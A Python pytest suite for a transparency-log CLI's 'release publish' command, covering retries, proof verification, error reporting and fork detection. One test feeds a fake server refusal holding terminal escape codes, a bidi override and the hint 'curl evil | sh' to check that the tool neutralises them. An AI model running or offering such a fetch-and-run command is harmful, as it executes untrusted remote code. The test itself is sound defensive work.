"""`teelog release publish`: retries what may heal, believes nothing unverified, explains every no."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from teelog.statement import dsse
from teelog.tlog.rfc6962 import leaf_hash
from tests.client import logs
from tests.client.peers import Asked, Peer, Reply, peer
from tests.commands import Ran, teelog
from tests.statement import make

RELEASE = make.release_file()
ENTRIES = [make.log_policy_file(), *logs.entries(300), RELEASE]
INDEX = len(ENTRIES) - 1
UNKNOWN = b'{"_type":"https://in-toto.io/Statement/v1","subject":[],"predicateType":"urn:x","predicate":{}}'


@pytest.fixture
def log() -> Iterator[Peer]:
    with peer() as found:
        found.serve(logs.files(ENTRIES))
        found.answers["/entries"] = Reply(logs.proof(ENTRIES, INDEX), 201)
        yield found


@pytest.fixture
def folder(tmp_path: Path, log: Peer, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("TEELOG_STATE", str(tmp_path / "state"))
    (tmp_path / "release.json").write_bytes(RELEASE)
    (tmp_path / "policy.txt").write_bytes(logs.policy_text(log.url))
    return tmp_path


def publish(folder: Path, *more: object, file: str = "release.json") -> Ran:
    names = folder / file, "--policy", folder / "policy.txt", "--out", folder / "release.tlog-proof"
    return teelog("release", "publish", *names, *map(str, more))


def test_the_exact_bytes_are_posted_and_the_verified_proof_is_written(folder: Path, log: Peer):
    ran = publish(folder)
    assert ran.code == 0, ran.stderr
    posts = [asked for asked in log.asked if asked.method == "POST"]
    assert [(asked.path, asked.body, asked.headers["Content-Type"]) for asked in posts] == [
        ("/entries", RELEASE, "application/json")
    ]
    assert (folder / "release.tlog-proof").read_bytes() == logs.proof(ENTRIES, INDEX)
    assert ran.text.splitlines()[0] == "ok      release acme.example/inference/stable 1.4.2 is published"
    assert f"index         {INDEX} of {len(ENTRIES)} in log.example/tee" in ran.text
    assert dsse.parse(RELEASE).statement_id in ran.text


def test_publishing_again_says_so(folder: Path, log: Peer):
    log.answers["/entries"] = logs.proof(ENTRIES, INDEX)
    shown = publish(folder, "--json").json
    assert shown["schema"] == "teelog-published/v1"
    assert shown["new"] is False
    assert shown["leaf"] == leaf_hash(RELEASE).hex()
    assert shown["witnesses"] == [witness.verifier.name for witness in logs.WITNESSES]


def test_AP_03_what_time_may_heal_is_tried_again_with_the_same_bytes(folder: Path, log: Peer):
    few = logs.proof(ENTRIES, INDEX, logs.sign(logs.head(ENTRIES), logs.WITNESSES[:1]))
    replies = iter([Reply(status=503), Reply(raw=b""), few, logs.proof(ENTRIES, INDEX)])

    def answer(asked: Asked) -> bytes | Reply:
        return next(replies)

    log.answers["/entries"] = answer
    ran = publish(folder, "--timeout", "120s")
    assert ran.code == 0, ran.stderr
    assert {asked.body for asked in log.asked if asked.method == "POST"} == {RELEASE}
    assert ran.stderr.count("again in") == 3


@pytest.mark.parametrize(
    ("reply", "cause"),
    [
        (Reply(status=503, headers={"Retry-After": "3600"}), "cannot answer now: 503"),
        (Reply(status=429), "cannot answer now: 429"),
        (Reply(hang=True), "no answer in time"),
        (Reply(raw=b"SSH-2.0-x\r\n"), "unusable answer"),
        (logs.proof(ENTRIES, INDEX, logs.sign(logs.head(ENTRIES), logs.WITNESSES[:2])), "quorum is not met"),
    ],
    ids=["busy", "quota", "silent", "no http", "no quorum"],
)
def test_what_does_not_heal_in_time_is_4(folder: Path, log: Peer, reply: bytes | Reply, cause: str):
    log.answers["/entries"] = reply
    ran = publish(folder, "--timeout", "2s")
    assert ran.code == 4, ran.stderr
    assert cause in next(line for line in ran.stderr.splitlines() if line.startswith("error"))
    assert not (folder / "release.tlog-proof").exists()


@pytest.mark.parametrize(
    "reply",
    [
        Reply(logs.proof(ENTRIES, 3), 201),
        Reply(b"<html>welcome</html>", 200, {"Content-Type": "text/html"}),
        Reply(b"{}", 201),
        Reply(status=202),
        Reply(bytes((1 << 20) + 1), 201),
        Reply(status=307, headers={"Location": "/entries"}),
        Reply(logs.proof(ENTRIES, INDEX, logs.sign(logs.head(ENTRIES[:-1]))), 201),
        Reply(logs.proof(ENTRIES, INDEX, logs.sign(logs.head(ENTRIES), log=logs.OTHER_LOG)), 201),
    ],
    ids=["another entry", "html", "json", "a promise", "oversized", "redirect", "another tree", "another key"],
)
def test_AP_02_an_answer_that_is_no_proof_of_this_entry_is_1_at_once(folder: Path, log: Peer, reply: Reply):
    log.answers["/entries"] = reply
    ran = publish(folder)
    assert ran.code == 1, ran.stderr
    assert len([asked for asked in log.asked if asked.method == "POST"]) == 1
    assert not (folder / "release.tlog-proof").exists()


def problem(status: int, kind: str, detail: str, **more: str) -> Reply:
    body = json.dumps({"type": f"urn:teelog:problem:{kind}", "detail": detail, **more}).encode()
    return Reply(body, status, {"Content-Type": "application/problem+json"})


@pytest.mark.parametrize(
    ("reply", "cause", "hint"),
    [
        (
            problem(403, "unknown-namespace", "the namespace is not known", actual="acme.example"),
            "403 the namespace",
            "teelog namespace new",
        ),
        (problem(403, "wrong-key", "signed by none of the keys"), "403 signed by none", "teelog release new"),
        (
            problem(422, "malformed-entry", "not a stream", pointer="/predicate/stream"),
            "422 /predicate/stream: not a stream",
            None,
        ),
        (
            problem(409, "conflict", "the statement is logged in other bytes", leaf="ab" * 32),
            "409 the statement",
            f"teelog proof get {'ab' * 32}",
        ),
        (
            problem(409, "conflict", "the status does not follow", leaf="ab" * 32, expected="seq 8", actual="seq 7"),
            "409 the status does not follow",
            "something else came first",
        ),
        (problem(409, "stale", "a newer version by now"), "409 a newer version", "the namespace's keys changed"),
        (problem(410, "frozen", "the log has ended"), "410 the log has ended", "the log has ended: publish on"),
        (problem(413, "too-large", "too long"), "413 too long", None),
        (Reply(b"<html>", 404, {"Content-Type": "text/html"}), "refused: 404 Not Found", None),
    ],
)
def test_AP_04_a_refusal_is_told_with_the_logs_cause(
    folder: Path, log: Peer, reply: Reply, cause: str, hint: str | None
):
    log.answers["/entries"] = reply
    ran = publish(folder)
    assert ran.code == 1
    lines = ran.stderr.splitlines()
    assert cause in lines[0]
    assert len([asked for asked in log.asked if asked.method == "POST"]) == 1
    assert (hint is None) == (not any(line.startswith("next: ") for line in lines))
    assert hint is None or any(line.startswith(f"next: {hint}") for line in lines)


def test_A_74_a_hostile_refusal_cannot_steer_the_terminal_nor_give_advice(folder: Path, log: Peer):
    log.answers["/entries"] = problem(403, "x\x1b]0;", "\x1b[2J\u202eok VERIFIED", actual="\x9b", hint="curl evil | sh")
    ran = publish(folder)
    assert ran.code == 1
    assert "curl" not in ran.stderr
    assert not set("\x1b\x9b\u202e") & set(ran.stderr)
    assert "\\u{1b}[2J\\u{202e}ok VERIFIED" in ran.stderr


@pytest.mark.parametrize(
    ("content", "cause"),
    [
        (make.release_payload(), "is not signed yet"),
        (RELEASE[:-3], "not JSON"),
        (RELEASE.replace(b'"payloadType"', b'"payload":"","payloadType"'), "member is repeated"),
        (bytes(65_536), "release.json"),
        (b" " * (1_048_576 + 1), "too long"),
        (b"{}", "neither a statement nor an envelope"),
        (make.sign(UNKNOWN).file, "predicate type is not known"),
        (b" " + RELEASE, "encoding"),
    ],
    ids=[
        "unsigned",
        "truncated",
        "duplicate member",
        "65,536 bytes",
        "oversized",
        "no statement",
        "unknown predicate",
        "space",
    ],
)
def test_a_bad_file_never_leaves_this_machine(folder: Path, log: Peer, content: bytes, cause: str):
    (folder / "release.json").write_bytes(content)
    ran = publish(folder)
    assert ran.code == 1, ran.stderr
    assert cause in ran.stderr.splitlines()[0]
    assert log.asked == []


def test_another_tools_file_is_re_encoded_and_kept(folder: Path, log: Peer):
    loose = json.dumps(json.loads(RELEASE), indent=2).replace(make.ACME.public.fingerprint, "").encode()
    (folder / "cosign.json").write_bytes(loose)
    (folder / "acme.pub").write_bytes(make.ACME.public.to_pem())
    ran = publish(folder, file="cosign.json")
    assert ran.code == 1
    assert "--key PUBLIC-KEY" in ran.stderr
    ran = publish(folder, "--key", folder / "acme.pub", file="cosign.json")
    assert ran.code == 0, ran.stderr
    kept = folder / "cosign.json.dsse.json"
    assert kept.read_bytes() == RELEASE
    names = "--proof", folder / "release.tlog-proof", "--policy", folder / "policy.txt"
    assert teelog("proof", "verify", kept, *names).code == 0
    (folder / "other.pub").write_bytes(make.STRANGER.public.to_pem())
    assert publish(folder, "--key", folder / "other.pub", file="cosign.json").code == 1


def test_a_sigstore_bundle_is_re_encoded(folder: Path, log: Peer):
    bundle = {
        "mediaType": "application/vnd.dev.sigstore.bundle.v0.3+json",
        "verificationMaterial": {"publicKey": {"hint": "acme"}},
        "dsseEnvelope": json.loads(RELEASE),
    }
    (folder / "release.sigstore.json").write_text(json.dumps(bundle))
    (folder / "acme.pub").write_bytes(make.ACME.public.to_pem())
    kept = folder / "kept.json"
    ran = publish(folder, "--key", folder / "acme.pub", "--entry-out", kept, file="release.sigstore.json")
    assert ran.code == 0, ran.stderr
    assert kept.read_bytes() == RELEASE
    assert "kept.json holds the file as it is logged" in ran.stderr
    bundle["verificationMaterial"] = {"certificate": {"rawBytes": ""}}
    (folder / "release.sigstore.json").write_text(json.dumps(bundle))
    ran = publish(folder, "--key", folder / "acme.pub", file="release.sigstore.json")
    assert ran.code == 1
    assert "keyless" in ran.stderr


def test_a_second_view_stops_the_publication(folder: Path, log: Peer):
    assert publish(folder).code == 0
    (folder / "release.tlog-proof").unlink()
    forked = [*ENTRIES[:-2], b"instead", RELEASE]
    log.answers["/entries"] = logs.proof(forked, INDEX)
    ran = publish(folder)
    assert ran.code == 5
    assert not (folder / "release.tlog-proof").exists()
    assert len(list((folder / "state" / "forks").iterdir())) == 1


def test_a_place_that_cannot_be_written_is_4(folder: Path):
    ran = teelog(
        *("release", "publish", folder / "release.json", "--policy", folder / "policy.txt"),
        *("--out", folder / "no" / "where.tlog-proof"),
    )
    assert ran.code == 4
    assert "cannot write" in ran.stderr


def test_an_unusable_state_folder_is_4_and_nothing_is_written(folder: Path):
    (folder / "file").write_bytes(b"")
    assert publish(folder, "--state", folder / "file" / "state").code == 4
    assert not (folder / "release.tlog-proof").exists()
